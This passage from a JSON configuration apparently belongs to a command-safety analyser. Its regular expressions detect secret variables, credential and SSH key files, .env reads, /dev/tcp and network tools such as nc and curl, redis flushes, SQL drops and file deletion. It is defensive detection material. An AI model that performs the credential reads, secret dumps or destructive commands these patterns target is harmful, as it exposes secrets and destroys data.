+:^|[;&|(\\\\n])\\\\s*\\\\.\\\\s"],"printing_builtin":["^(?:echo|printf)$"],"secret_variable":["^(?:\\\\w+_)?(?:TOKEN|SECRET|PASSWORD|PASSWD|API_?KEY|SECRET_KEY|ACCESS_KEY\
+|PRIVATE_KEY|CREDENTIALS?)$"],"special_variable":["^(?:RANDOM|SRANDOM|SECONDS|LINENO|EPOCH\\\\w+|BASH\\\\w*|ZSH\\\\w*|OPT\\\\w+|REPLY|PIPESTATUS|PWD|OLDPWD|[EP]*[UGP]ID\
+|DIRSTACK|FUNCNAME|GROUPS|SHELLOPTS|HIST\\\\w+|COMP\\\\w+|MAPFILE|COPROC|IFS|_|status|argv|[a-z]*path|pipestatus|options|commands|functions|aliases|match|reply|sign\
+als|history|keymaps|widgets|TTYIDLE|COLUMNS|LINES|HOST\\\\w*|MACHTYPE|OSTYPE|USERNAME|TRY_BLOCK_\\\\w+)$"],"unfollowed_builtin":["^(?:let|eval|source|\\\\.|shopt|enab\
+le|setopt|trap|declare|typeset|builtin|command)$"],"error_exit":["^set (?:-\\\\w*e\\\\w*|-\\\\w*o errexit)(?: -\\\\w+| -o \\\\w+| pipefail)*$"],"waiting_command":["^(?:wa\
+it|sleep|usleep|break|exit|return|read|inotifywait|fswatch|select|wait4|flock|nc|curl|wget|timeout)$"],"endless":["^yes\\\\b|^(?:cat|dd|tr|base64|xxd|od) (?!.*\\\\b\
+count=).*/dev/(?:zero|u?random|full)(?: |$)"],"early_code":["\\\\b(?:BEGIN|CHECK|INIT|UNITCHECK|use|no|require)\\\\b"],"checking_option":["^(?:c|check|[eElwW]|MO=\\\\\
+w+)$"],"process_name":["[\\"'/|(^](?!name|pid|cmd|exe|comm|info)([a-z][\\\\w.-]{1,30})(?=[\\"'/|)$])","g"],"git_filter":["^(?:stripspace|column|interpret-trailers|m\
+ailinfo|fmt-merge-msg)$"],"harmless":["^[\\\\w.-]*%[\\\\d.]*[gfe][\\\\w.-]*$|^[\\\\s,:.-]$"],"jq_choosing":["(?:[!=<>]=\\\\s*|\\\\[\\\\s*)\\\\$\\\\w+|(?:[!=<>]=\\\\s*|\\\\[\\\\s*|\\\\.\\\\\
+s*)\\"(?:[^\\"\\\\\\\\]|\\\\\\\\.)*\\"|(?:test|startswith|endswith|contains|inside|has|split|r?index|match|capture|scan|[lr]trimstr|error|getpath|del)\\\\s*\\\\(\\\\s*\\"(?:[^\\"\\\
+\\\\\\]|\\\\\\\\.)*\\"|(?:input_filename|str[pf]time)\\\\s*\\\\(\\\\s*\\"(?:[^\\"\\\\\\\\]|\\\\\\\\.)*\\"","g"],"plain_text":["^[\\\\w\\\\u{FFFC}][\\\\w\\\\u{FFFC}.@:=,-]*$|^(?:[\\\\s,:=@._-]|\\\\\\\
+\\[nt])?$","u"],"jq_making":["\\\\b(?:implode|fromjson|ltrimstr|rtrimstr|ascii_downcase|ascii_upcase|gsub|sub|reverse|tojson|input)\\\\b|@base\\\\d+d|@uri"],"template"\
+:["[._-](example|sample|template|dist|tpl|tmpl|defaults?)$"],"ssh":["(^|/)\\\\.ssh(/|$)"],"ssh_settings":["/(config|known_hosts[^/]*|authorized_keys2?|[^/]+\\\\.pub\
+|environment|rc)$"],"memory":["^/proc/[^/]+/mem$|^/dev/k?mem$|^/proc/kcore$"],"temp":["^/(tmp|var/tmp|var/folders|private/tmp|private/var/folders|dev/shm|run/us\
+er/\\\\d+)(/|$)"],"package_cache":["^/var/(cache|lib/apt/lists)/"],"system_tree":["^/([^/]+|(usr|var|etc|system|library)/[^/]+|usr/lib(32|64)?/[^/]+-linux-gnu[^/]\
+*|var/lib/(dpkg|rpm|pacman|apt))$"],"local_system":["^/(usr/local|usr/src|opt|srv|var/www|etc/apt/(sources\\\\.list\\\\.d|keyrings|trusted\\\\.gpg\\\\.d|preferences\\\\.d\
+|apt\\\\.conf\\\\.d)|usr/share/keyrings)(/|$)"],"disposable_name":["^\\\\.coverage\\\\..+$|^\\\\.tsbuildinfo$|^\\\\.venv[-_.]?\\\\w[\\\\w.-]*$|^venv-?\\\\d[\\\\d.]*$|^(tmp|temp|tes\
+t|scratch|demo|dummy|build|dist|out|cmake-build|cache|bazel)[-_.].+$|.+[-_.](tmp|temp|cache|build|dist|out|output|bak|results?|coverage|artifacts?|generated|obj\
+s)$|.+\\\\.(egg-info|dist-info|pyc|pyo|o|obj|a|so|class|log|tmp|temp|bak|orig|rej|swp|swo|tsbuildinfo|gcda|gcno|profraw|prof|out|pid|lock|d|map|cache|snap|tgz|whl\
+|dll|dylib|exe|wasm|min\\\\.js|min\\\\.css|test\\\\.db)$|.+~$|^\\\\.#.*|^core\\\\.\\\\d+$|^test[_-]?repo.*|^my[-_]?test.*"],"device":["^/dev/(?:(?:tcp|udp|pts|fd)/|(?:stdin\
+|stdout|stderr|tty|fd|null|zero|full|random|urandom)$)"],"other_place":["^(?:-h|-u$|--host|--login-path|\\\\w*(?:HOST|URL|SERVICE)\\\\w*=)|^(?!db[.[][^/:]*\\\\()\\\\S*[\
+.:@=]\\\\S*$|\\\\b(?:connect|Mongo)\\\\s*\\\\(|\\\\b(?:host|hostaddr|service)=|\\\\\\\\c(?:onnect)?\\\\b|^[^ ]*\\\\uFFFC"],"local_wrapper":["^(?:(?:ba|da|z|a)?sh|env|timeout|nohu\
+p|nice|time|xargs|find|awk|python[\\\\d.]*|node|perl|ruby|php|sudo|su)$"],"key_scripts":["\\\\bredis\\\\.p?call\\\\s*\\\\(\\\\s*[\\"']flush(?:all|db)\\\\b|[\\"'](?:KEYS|SCAN|HS\
+CAN|SSCAN|ZSCAN)[\\"'][\\\\s\\\\S]*[\\"'](?:DEL|UNLINK)[\\"']|\\\\b(?:for|while)\\\\b[\\\\s\\\\S]*[\\"'](?:DEL|UNLINK)[\\"']|[\\"'](?:DEL|UNLINK)[\\"']\\\\s*,\\\\s*unpack\\\\s*\\\\(\\\\s*re\
+dis\\\\.p?call\\\\b|\\\\bredis\\\\.p?call\\\\s*\\\\(\\\\s*(?![\\"'])[\\\\s\\\\S]*\\\\bflush(?:all|db)\\\\b","i"],"credential_name":["^id_(rsa|dsa|ecdsa|ed25519)(_sk)?([._-].*)?(?<!\\\\.\
+pub)$|\\\\.(p12|pfx|jks|keystore|kdbx|ppk|keychain|keychain-db|key)$|^(?!.*(cert|chain|\\\\bca\\\\b|bundle|public|\\\\bpub\\\\b|\\\\bcrt\\\\b|dhparam|roots?)).*\\\\.pem$|^(app|\
+prod|production|staging|dev|db|my)?[-_.]?(secrets?|passwords?|passwd|tokens?)(\\\\.(prod|production|staging|dev|local|enc))?\\\\.(json|ya?ml|toml|ini|txt|env|csv|cf\
+g|conf|properties|xml|db|sqlite)$|^(app|prod|production|staging|dev|db|my)?[-_.]?(api|access)[-_]?keys?(\\\\.(prod|production|staging|dev|local|enc))?\\\\.(json|ya?\
+ml|toml|ini|txt|env|csv|cfg|conf|properties|xml|db|sqlite)$|^(service[-_]?account|client[-_]?secrets?|gcp[-_]?key|sa[-_]?key|firebase-adminsdk).*\\\\.json$|(^|[-_\
+.])(api|secret|private|access|auth)[-_]?(key|token)s?(\\\\.(json|txt|ya?ml|pem|key|env))?$|^(login data|web data)( for account)?(-journal)?$|^vault[-_]pass(word)?\
+(\\\\.txt)?$|^\\\\.vault[-_]pass.*|\\\\.kubeconfig$"],"fixture_folder":["(^|/)(fixtures?|__fixtures__|testdata|test[-_]data|test[-_]fixtures)/"],"fixture_key":["^(fak\
+e|dummy|mock|example|sample|test|invalid|expired|self[-_]?signed|server|client|localhost|leaf|agent\\\\d)"],"windows_folder":["[*?[{]|^(?:inetpub|documents and se\
+ttings|windows|program ?files.*|programdata|system.*|users|boot|efi|recovery|perflogs|\\\\$.*)$"],"package_store":["^\\\\.(npm|yarn|pnpm|cargo|rustup|m2|gradle|nuge\
+t|cache|node-gyp|electron|cypress|conda)$"],"counting_flag":["^(?:-q|-c|--quiet|--count)$"],"listing_flag":["^(?:-l|--files-with-matches|--files)$"],"printing_n\
+ames":["^sed (?:-n (?=.*p \\\\S+$))?(?:-E )?s(.)=\\\\.\\\\*\\\\$?\\\\1=?(?:(?!\\\\1)[^&\\\\\\\\;\\\\n])*\\\\1[gp]?(?: (?:\\\\S*\\\\/)?\\\\.env(?:\\\\.\\\\w+)?)?$|^jq (?:-\\\\w+ )*(?:\\\\.(?:data\
+|stringData)(?: ?\\\\| ?| ))?(?:keys(?:_unsorted)?(?:\\\\[\\\\])?|length)$|^cut (?:-z )?(?:-d ?= -f ?1|-f ?1 -d ?=)(?: (?:\\\\S*\\\\/)?\\\\.env(?:\\\\.\\\\w+)?)?$|^[ef]?grep (?\
+:-\\\\w*o\\\\w* |-o -E |-E -o )\\\\^(?:export )?(?:\\\\[\\\\^=#?\\\\]|\\\\[\\\\^#=\\\\]|\\\\[(?:A-Z|a-z|0-9|_)+\\\\]|[\\\\w()]|\\\\\\\\w)+(?:[*+]|\\\\\\\\\\\\+)?\\\\)?=?(?: (?:\\\\S*\\\\/)?\\\\.env(?:\\\\\
+.\\\\w+)*)*$|^(?:[ef]?grep|rg)(?: -[nEFrhHswS]+)* (?:\\\\^|\\\\\\\\b)?\\\\(?(?:(?:NEXT_PUBLIC|NUXT_PUBLIC|EXPO_PUBLIC|VITE|REACT_APP|GATSBY|PUBLIC)_\\\\w+|(?:[A-Z\\\\d]+_)+(?\
+:HOST|HOSTNAME|PORT|ENV|MODE|PROVIDER|REGION|LOG_LEVEL|DEBUG|ENABLED|TIMEOUT|VERSION)|(?:NEXT_PUBLIC|NUXT_PUBLIC|EXPO_PUBLIC|VITE|REACT_APP|GATSBY|PUBLIC)_\\\\(\\\\\
+w+(?:\\\\|\\\\w+)*\\\\))(?:\\\\\\\\?\\\\|(?:(?:NEXT_PUBLIC|NUXT_PUBLIC|EXPO_PUBLIC|VITE|REACT_APP|GATSBY|PUBLIC)_\\\\w+|(?:[A-Z\\\\d]+_)+(?:HOST|HOSTNAME|PORT|ENV|MODE|PROVIDER\
+|REGION|LOG_LEVEL|DEBUG|ENABLED|TIMEOUT|VERSION)|(?:NEXT_PUBLIC|NUXT_PUBLIC|EXPO_PUBLIC|VITE|REACT_APP|GATSBY|PUBLIC)_\\\\(\\\\w+(?:\\\\|\\\\w+)*\\\\)))*\\\\)?=?(?: -S| (?:\
+\\\\S*/)?\\\\.env[\\\\w.*-]*| (?![~/])[\\\\w./*-]+(?<!\\\\.(?:json|ya?ml|toml|ini|cfg|conf|pem|key)))*$|^[gm]?awk -F ?=(?: (?:\\\\S*\\\\/)?\\\\.env(?:\\\\.\\\\w+)*)* (?:NF|\\\\/[^/{}\
+]*\\\\/|!\\\\/\\\\^#\\\\/(?: ?&& ?NF)?)? ?\\\\{ ?print \\\\$1;? ?\\\\}$"],"shows_more":["\\u00a7|\\\\.env\\\\b|\\\\$[\\\\d&~+\`]|\\\\$'|\\\\b(?:eval|exec|compile|Function|globals|locals|va\
+rs|getattr|setattr|inspect|traceback|pdb|breakpoint|__\\\\w+__|arguments|gc|_getframe|dis|ctypes|debugger|binding|instance_variable\\\\w*|local_variables|ObjectSpac\
+e|read\\\\w*|open\\\\w*|load_dotenv|[dD]otenv\\\\w*|fileinput|linecache|create(?:ReadStream|Interface)|File|IO|subprocess|system|popen|child_process|spawn\\\\w*|exec\\\\w\
+*|import_module|importlib|runpy|Bun|Deno|throw|except|catch|rescue|globalThis|global|window|self|this|RegExp|Regexp|MatchData|post_match|pre_match|rightContext|\
+leftContext|lastMatch|prototype|class|refine|import|require)\\\\b|(?<![\\\\w.])(?:len|sorted|list|set|print|str|Boolean|Object|Array|String|console|re|fs)\\\\s*=(?!=)\
+|\\\\bdef (?:len|sorted|list|set|print)\\\\b|\\\\bfunction (?:Boolean|Object)\\\\b"],"sourcing":["^reads (?:source|\\\\.) (?:\\\\.?/)?(?:[\\\\w.-]+/)*(?:\\\\.env(?:\\\\.[\\\\w-]+)*\
+|\\\\w[\\\\w-]*\\\\.env)$"],"line_filter":["^(?:cat|wc(?!.* --files0)|[ef]?grep(?! -\\\\S*[oPzr])|rg(?! -\\\\S*[or])|sort(?!.* (?:-\\\\w*o|--output|--files0))|uniq(?! [^-]|\
+ .* [^-])|head(?! -c)|tail(?! -c)|env|(?:docker|podman) (?:inspect|exec (?:-\\\\w+ )*\\\\S+ (?:env|printenv)$)|kubectl get|oc get) ?"],"secret_listing":["^(?:kubect\
+l|oc)$"],"environment_listing":["^(?:docker|podman) (?:inspect .*\\\\{\\\\{range \\\\.Config\\\\.Env\\\\}\\\\}\\\\{\\\\{println \\\\.\\\\}\\\\}\\\\{\\\\{end\\\\}\\\\}|exec (?:-\\\\w+ )*\\\\S+ (?\
+:env|printenv)$)"],"counter":["^(?:wc|sort|head|tail|uniq|[ef]?grep)$"],"file_test":["^(?:test|\\\\[) (?:! )?-[ef] \\\\S*\\\\.env"],"settings_file":["(?:^|/)\\\\.env(?:\
+\\\\.[\\\\w-]+)*$"],"text_filter":["^(?:cat|g?sed|envsubst|[gm]?awk|[ef]?grep)$"],"copying":["^writes cp (?:\\\\./)?(?:[\\\\w-]+/)*\\\\.?env[\\\\w.-]*[._-](?:example|sample\
+|template|tpl|dist|defaults?) (?:\\\\./)?(?:[\\\\w-]+/)*\\\\.env(?:\\\\.[\\\\w-]+)*$"],"awk_comparison":["(?:\\\\$\\\\w+|\\\\bNR)\\\\s*==\\\\s*(?:\\"[^\\"\\\\n]{2,}\\"|\\\\d+|[A-Za-z]\\\\w*\
+|\\\\u{FFFC})|\\\\bindex\\\\(\\\\s*\\\\$\\\\w+\\\\s*,\\\\s*\\"[^\\"\\\\n]{2,}\\"","u"],"awk_field":["^\\\\s*\\\\{\\\\s*print\\\\s*(?:\\\\$(?:\\\\d|NF))?\\\\s*;?\\\\s*\\\\}\\\\s*$"],"sed_command":["(?<b\
+etween>[\\\\s;{}!]+|#.*|\\\\d+(?:~\\\\d+)?|\\\\$|,\\\\s*[+~]?|I(?=[\\\\s,!a-z])|(?:(?=\\\\/)|\\\\\\\\)(?<quote>[\\\\s\\\\S])(?:\\\\\\\\[\\\\s\\\\S]|\\\\[\\\\^?\\\\]?(?:\\\\[:\\\\w+:\\\\]|[^\\\\]\\\\n])*\\\\]|\
+(?!\\\\k<quote>)[^\\\\\\\\[])*\\\\k<quote>)|s(?<delimiter>[^\\\\w\\\\s\\\\\\\\]|_)(?<pattern>(?:\\\\\\\\[\\\\s\\\\S]|\\\\[\\\\^?\\\\]?(?:\\\\[:\\\\w+:\\\\]|[^\\\\]\\\\n])*\\\\]|(?!\\\\k<delimiter>)[^\\\\\\\\[\
+])*)\\\\k<delimiter>(?<replacement>(?:\\\\\\\\[\\\\s\\\\S]|(?!\\\\k<delimiter>)[^\\\\\\\\])*)\\\\k<delimiter>(?<flags>[gpeimIM\\\\d]*)(?:w(?<target>.*))?|(?<other>y(?<mark>[^\\\\w\\\\s\
+\\\\\\\\])(?:\\\\\\\\[\\\\s\\\\S]|(?!\\\\k<mark>)[^\\\\\\\\])*\\\\k<mark>(?:\\\\\\\\[\\\\s\\\\S]|(?!\\\\k<mark>)[^\\\\\\\\])*\\\\k<mark>|[aic](?:\\\\\\\\\\\\n|.)*|[N=gGhHxzF]|l\\\\s*\\\\d*|[:btTv][^;\\\\n}]*)\
+|e(?<command>.*)|[wW](?<output>.*)|[rR](?<input>.*)|(?<select>[pdnPD]|[qQ]\\\\s*\\\\d*)","y"],"group_in_path":["(?<=[\\\\w.\\\\]}])/\\\\(([\\\\w.-]{1,60})\\\\)(?=[/\\\\s]|$)","\
+g"],"brace_count":["^\\\\{-?\\\\d{1,9}\\\\.\\\\.-?\\\\d{1,9}(?:\\\\.\\\\.-?\\\\d{1,6})?\\\\}$"],"brace_sequence":["^(?:(-?\\\\d{1,9})\\\\.\\\\.(-?\\\\d{1,9})|([A-Za-z])\\\\.\\\\.([A-Za-z]))(\
+?:\\\\.\\\\.-?(\\\\d{1,6}))?$"],"brace_literal":["\\\\\\\\[\\\\s\\\\S]?|'[^']*'?|\\"(?:\\\\\\\\[\\\\s\\\\S]|[^\\"\\\\\\\\])*\\"?|\\\\x60(?:\\\\\\\\[\\\\s\\\\S]|[^\\\\x60\\\\\\\\])*\\\\x60?|\\\\$\\\\{(?:[^{}]|\\\\{\
+(?:[^{}]|\\\\{[^{}]*\\\\})*\\\\})*\\\\}|\\\\$\\\\((?:[^()]|\\\\((?:[^()]|\\\\([^()]*\\\\))*\\\\))*\\\\)|[^\\\\\\\\'\\"\\\\x60$\\\\x7b\\\\x7d,]+|[\\\\s\\\\S]","y"],"printf_escape":["\\\\\\\\(?:x([\\\\da-f\
+A-F]{1,2})|u([\\\\da-fA-F]{1,4})|U([\\\\da-fA-F]{1,8})|0?([0-7]{1,3})|([\\\\s\\\\S]))","g"],"printf_directive":["%%|%[-+ #0]*(\\\\d*|\\\\*)(?:\\\\.(\\\\d+|\\\\*))?([a-zA-Z])|\\\\\\\\\
+(?:x\\\\p{AHex}{1,2}|u\\\\p{AHex}{1,4}|U\\\\p{AHex}{1,8}|[0-7]{1,3}|.)","gsu"],"format_field":["%%|%(?!x|\\\\d[\\\\da-f])[-+ #0'^:_<>|\\\\d.]*(?:[Cw]?\\\\([^)]*\\\\)|\\\\{[^}]*\\\\\
+}|[acCGg]?[A-Za-z])|%","g"],"jq_text":["\\"((?:[^\\"\\\\\\\\]|\\\\\\\\[\\\\s\\\\S])*)\\"","g"],"jq_interpolation":["\\\\\\\\\\\\((?:[^()]|\\\\([^()]*\\\\))*\\\\)","g"],"long_line_separato\
+r":["\\\\\\\\[\\\\s\\\\S]|'[^']*(?:'|$)|\\"(?:\\\\\\\\[\\\\s\\\\S]|[^\\"\\\\\\\\])*(?:\\"|$)|(?<![^\\\\s])#.*|[\\\\n;]|(?<!=)\\\\((?!\\\\))|(?<!\\\\()\\\\)|(?<!>)&(?!>)","g"],"long_line_prefix":[\
+"^(?:(?:if|then|elif|else|do|while|until|time|!|\\\\{)\\\\s+|\\\\(\\\\s*)+"],"here_document":["(<<-?[ \\\\t]*(?:\\\\\\\\|'|\\")?(\\\\w+)[^\\\\n]*)(?:\\\\n(?:(?:[\\\\s\\\\S]*?\\\\n)?[ \\\\t]\
+*\\\\2[ \\\\t]*(?=\\\\n|$)|[\\\\s\\\\S]*)|$)","g"],"always_true":["^(?:(?:\\\\/usr)?(?:\\\\/bin\\\\/)?true|:|\\\\[ (?:1|true|x) \\\\]|test 1|echo.*)$"],"always_false":["^(?:\\\\/bin\\\
+\\/)?false$"],"deleting_call":["\\\\b(?:rm_rf|remove\\\\w*|unlink|delete\\\\w*|RemoveAll|execute|system)\\\\b"],"generated_statement":["'\\\\s*((?:drop|truncate|delete|alt\
+er|revoke|grant)\\\\s[^']*)'","gi"],"package_runner":["^(npx|bunx|pnpx|uvx|npm|pnpm|yarn|bun)$"],"host":["^(?:[a-z][a-z0-9+.-]*:\\\\/\\\\/)?(?:[^/@\\\\s]*@)?(\\\\[[0-9a-f\
+:]+\\\\]|[A-Za-z0-9.-]+)(?::\\\\d+)?(?:[/?#:].*)?$"],"whole_folder":["^(\\\\*+|\\\\.\\\\*|\\\\?\\\\*|\\\\.\\\\[[!^]\\\\.\\\\]\\\\*?|\\\\.\\\\?\\\\?\\\\*|\\\\{\\\\*,\\\\.\\\\*\\\\}|\\\\*\\\\.\\\\*|!\\\\(.*\\\\))$"\
+],"making_word":["^(?:create|start|up|init|declare|add|run|new|mb|update-ref)$|^--create$"],"referring_word":["^(?:remote|context|config.*)$"],"name_maker":["^(\
+?:volume|network) create$"],"new_folder":["^/tmp/tmp[.]\\\\uFFFC(?:/(?!\\\\.\\\\.)[\\\\w.-]+)*$"],"obligation":["(?:needs? to|should|must|has to|have to|(?:is|are) to) \
+be(?: \\\\w+ly)?$"],"list_item":["^[ \\\\t]*(?:[-*+\\u2022\\u2013]|\\\\(?\\\\d{1,3}[.):]|\\\\(?[a-z][.)]|\\\\[[ x]\\\\]|step \\\\d{1,3}[:.)-]?)[ \\\\t]+(?:\\\\[[ x]\\\\][ \\\\t]+)?","i"]\
+,"heading":["^[ \\\\t]{0,3}#{1,6}[ \\\\t]+"],"code_fence":["^[ \\\\t]*(\`{3,}|~{3,})[ \\\\t]*([\\\\w+-]*)"],"prompt":["^[ \\\\t]*\\\\$[ \\\\t]+(?=\\\\S)"],"text_word":["(\`{1,2})([\
+^\`\\\\n]{1,2000}?)\\\\1|(?<![\\\\w])[\\"\\u201c]([^\\"\\u201d\\\\n]{1,400})[\\"\\u201d]|(?<![\\\\w])'([^'\\\\n]{1,200})'(?!\\\\w)|[^\\\\s\`\\"\\u201c\\u201d,;:()!?\\u2014]+(?:[:!?][^\\\\s\`\\\
+"\\u201c\\u201d,;()!?\\u2014]+)*|[,;:()!?\\u2014]","gu"],"code_space":["[ \\\\t\\\\r\\\\f\\\\v\\\\\\\\\\\\u00a0]+","y"],"code_name":["[\\\\p{L}_][\\\\p{L}\\\\p{N}_]*[?!]?","uy"],"code_\
+number":["0[xX][\\\\da-fA-F_]+|0[oO]?[0-7_]+(?![.\\\\d])|0[bB][01_]+|\\\\d[\\\\d_]*(?:\\\\.\\\\d+)?(?:[eE][+-]?\\\\d+)?","y"],"code_mark":["\\\\.\\\\.\\\\.|[=!]==|<=>|(?:\\\\*\\\\*|<<|\
+>>|\\\\|\\\\||&&|\\\\?\\\\?|[-+*/.%|&^=!<>:])=|[-=]>|=~|\\\\?\\\\.|([:&|?+<>*.-])\\\\1|\\\\S","uy"],"continuing_mark":["^(?:[.,+*/%&|=<>?:([-]|=>|->|\\\\?\\\\.|&&|\\\\|\\\\||\\\\?\\\\?|\\\\+\
+=|\\\\.\\\\.\\\\.|==|===|::)$"],"continued_mark":["^(?:\\\\.|\\\\?\\\\.|->|&&|\\\\|\\\\||\\\\?\\\\?|\\\\+|\\\\?|:|\\\\.\\\\.\\\\.)$"],"escape":["\\\\\\\\(?:x([\\\\da-fA-F]{2})|u([\\\\da-fA-F]{4})|u\\\
+\\{([\\\\da-fA-F]{1,6})\\\\}|([0-7]{1,3})|(\\\\n)|(.))","gsu"],"quote":["(?<close>['\\"\`])","y"],"prefixed_quote":["(?<prefix>[rbfuRBFUtT]{0,2})(?<close>'''|\\"\\"\\"|'|\\"\
+)","y"],"quoting_q":["(qq|qx|qw|qr|q|m|tr|y|s)([^\\\\w\\\\s,;=>)]|\\\\s+[{([<|/!])","y"],"quoting_percent":["(%[wWiIqQxr]?)([({[<|!/])","y"],"quoting_none":["(?!)","y\
+"],"heredoc_perl":["<<~?(?:\\"(\\\\w+)\\"|'(\\\\w+)'|([A-Z_]\\\\w*))","y"],"heredoc_php":["<<<[ \\\\t]*(?:\\"(\\\\w+)\\"|'(\\\\w+)'|(\\\\w+))","y"],"heredoc_ruby":["<<[~-]?(?:\\"(\
+\\\\w+)\\"|'(\\\\w+)'|([A-Z_]\\\\w*))","y"],"input_line":["<\\\\$?\\\\w*>","y"],"slashed_pattern":["/(?:\\\\\\\\.|\\\\[(?:\\\\\\\\.|[^\\\\]\\\\\\\\\\\\n]){0,300}\\\\]|[^/\\\\\\\\[\\\\n]){0,300}/[a-\
+z]*","y"],"opening_f_string":["\\\\{(?!\\\\{)","y"],"opening_template":["\\\\$\\\\{","y"],"opening_hash":["#\\\\{","y"],"opening_dollar":["\\\\{(?=\\\\$)|@\\\\{(?=\\\\[)","y"],"o\
+pening_none":["(?!)","y"],"dollar_name":["(@ARGV)|\\\\$(?:\\\\{(\\\\w+)\\\\}|(\\\\w+)(?:->\\\\w+)?)(\\\\[[^\\\\]\\\\n]{0,40}\\\\]|\\\\{[^}\\\\n]{0,40}\\\\})?","y"],"table_deed":["^(?:dro\
+p-table|truncate|delete-all|update-all)$"],"taken_back":["^begin;(?:[^/*$'\\"\\\\\\\\-](?!\\\\bcommit\\\\b)){0,2000};rollback;?$","i"],"temporary":["^TEMP(?:ORARY)?$"],"\
+no_rows":["\\\\b(?:LIMIT 0|WHERE \\\\(* ?(?:FALSE|0|1 = [02]|0 = 1|1 < > 1))(?! ?[\\\\w=<>.])","i"],"true_condition":["^(?:.*\\\\bor *)?(?:\\\\(* *)(?:1|true|'?(\\\\w+)'? *\
+= *'?\\\\1'?|1 *< *2|not false)(?: *\\\\)*)$","i"],"client_command":["(?:\\\\\\\\!|\\\\.shell|\\\\.system|system)[ \\\\t]+(?<shell>.*)|\\\\\\\\(?:copy|o|w|g)\\\\w*[ \\\\t]*(?:\\\\|[ \\\\\
+t]*(?<piped>.*)|(?:.{0,4000}?\\\\b(?:program|PROGRAM)[ \\\\t]+'(?<program>(?:[^'\\\\n]|'')*)')?.*)","y"],"sql_token":["\\\\s+|--[^\\\\n]*|#(?=\\\\s|$)[^\\\\n]*|/\\\\*!\\\\d*|/\\\\*\
+[\\\\s\\\\S]*?(?:\\\\*/|$)|\\\\*/|(?<quote>['\\"\\\\x60])(?<quoted>(?:(?!\\\\k<quote>)[\\\\s\\\\S]|\\\\k<quote>\\\\k<quote>)*)\\\\k<quote>?|\\\\[(?<name>[^\\\\]]*)\\\\]?|\\\\$(?<tag>\\\\w*)\\\\$(\
+?<text>[\\\\s\\\\S]*?)(?:\\\\$\\\\k<tag>\\\\$|$)|(?<word>[\\\\p{L}_@#$][\\\\p{L}\\\\p{N}_$#]*|\\\\d[\\\\w.]*)|(?<mark>[\\\\s\\\\S])","uy"],"loop_variable":["\\\\bfor(?:each)?[\\\\s(]{0,20}\
+(?:await[\\\\s(]{1,9})?(?:(?:const|let|var|my)\\\\s{1,9})?\\\\(?([\\\\w$, ]{1,100}?)\\\\)?\\\\s{1,9}(?:in|of)\\\\b|\\\\b(\\\\w[\\\\w, ]{0,99})\\\\)?\\\\s{0,9}=>|\\\\|\\\\s*(\\\\w[\\\\w, ]*)\\\\|\
+|\\\\bas\\\\s+\\\\$?(\\\\w+)|\\\\blambda\\\\s+(\\\\w+)","g"],"test_clause":["\\\\b(?:if|elif|unless|filter|fnmatch|grep|select|reject|when)\\\\b([^\\\\n;{]{0,300})","g"],"tested_en\
+ding":["[\\"']\\\\.([\\\\w.]{1,12})[\\"']|\\\\\\\\\\\\.(?:\\\\(\\\\??:?)?([\\\\w|.\\\\\\\\]{1,60})\\\\)?\\\\$","g"],"tested_name":["(\\\\w+)(?:\\\\.name)?\\\\s*={2,3}\\\\s*[\\"']([\\\\w.-]+)[\\"']",\
+"g"],"known_command":["^(?![\\\\s\\\\S]*(?:^|[;&|\\\\n(\`{!]\\\\s*|\\\\b(?:sudo|doas|env|exec|eval|then|do|else|time|nohup|nice|xargs|\\\\w*sh|-c)\\\\s+|\\\\w=\\\\S*\\\\s+)['\\"]?\\\\u\
+{FFFC})\\\\s*[\\\\w./-]","u"],"deletes":["^\\\\s*(?:sudo\\\\s+)?(?:rm|truncate|shred)\\\\s"],"below_new_folder":["^/tmp/(?:tmp[.])?\\\\u{FFFC}/","u"],"new_path":["^/tmp/(?:\
+tmp\\\\.)?\\\\uFFFC(?=/|$)"],"peer_parameter":["^(?:req|request|reader)$"],"class_name":["^[A-Z]\\\\w*$"],"class_or_self":["^(?:self|cls|this|[A-Z]\\\\w*)$"],"field":["\
+^(?:self\\\\.|this\\\\.|\\\\$this\\\\.|@\\\\w)"],"nothing":["^(?:None|null|undefined|nil|undef)$"],"nothing_or_false":["^(?:None|null|undefined|nil|undef|false|False)$"],\
+"encoding":["^(base64|hex)(?:url)?$"],"unread_encoding":["^(?:rot13|zlib|zip|bz2|uu)$"],"program_call":["^(?:sh|plumbum\\\\.cmd)\\\\.(\\\\w+)(?:\\\\.bake)?$"],"text_met\
+hod":["^(?:str|bytes)\\\\.([lr]?strip|lower|upper|r?split|splitlines|encode|decode)$"],"own_method":["^(?:self|this|\\\\$this)\\\\.(\\\\w+)$"],"static_method":["^(?:sel\
+f|this|[A-Z]\\\\w*)\\\\.(\\\\w+)$"],"true_or_false":["^(?:True|False|true|false)$"],"entry_path":["^((?:.*/)?)(?:\\\\*|\\\\u{FFFC}+\\\\u{FFF9}?|\\\\*?\\\\.?[\\\\w.-]+)$","su"],"u\
+ses_arguments":["arg|shift|\\\\$[1-9*@]","i"],"uses_environment":["env","i"],"uses_input":["stdin|input|gets|readline|<>|\\\\$_|\\\\$<|readfile|read\\\\(|argf|ARGV|\\\\$\\\
+\\d|getline|print","i"]},"texts":{"XML or HTML":["^\\\\s*<(!doctype|\\\\?xml|[a-z][\\\\w-]*(\\\\s[^>]*)?>)","i"],"Markdown":["^\\\\s*(\`\`\`|#{1,6} \\\\S|\\\\||[-*] \\\\S)|\\\\n\`\`\`"]\
+,"a log":["^\\\\s*(\\\\[?\\\\d{4}-\\\\d\\\\d-\\\\d\\\\d[T ]|Traceback \\\\(most recent|\\\\w*Error: )|\\\\n\\\\s+at \\\\S+ \\\\("],"a sentence":["^\\\\s*\\\\p{Lu}[\\\\p{L}'\\u2019]*[, ]\\\\s*\\\\p{\
+L}[^\\\\n]*[.!?:)](\\\\s|$)","u"]}},"languages":{"languages":{"python":{"lexer":{"comment":["#"],"sigils":"","interpolation":"f_string","triple":true,"single_escape\
+s":true,"quoting":"none","patterns":false,"lines":"indent"},"program":"python3","blocks":"indent","member_operators":["."],"concatenation_operators":[],"bare_ca\
+lls":false,"function_keywords":["def"],"inputs":{"sys.argv":"argv","os.environ":"environment","sys.stdin":"lines","flask.request.args":"peer","flask.request.for\
+m":"peer","flask.request.data":"peer","flask.request.json":"peer","flask.request.values":"peer","flask.request.headers":"peer","bottle.request.query":"peer","bo\
+ttle.request.forms":"peer","bottle.request.body":"peer","self.rfile":"peer"},"sdks":["boto3.","botocore.session.","botocore.client.","aiobotocore.","aioboto3.",\
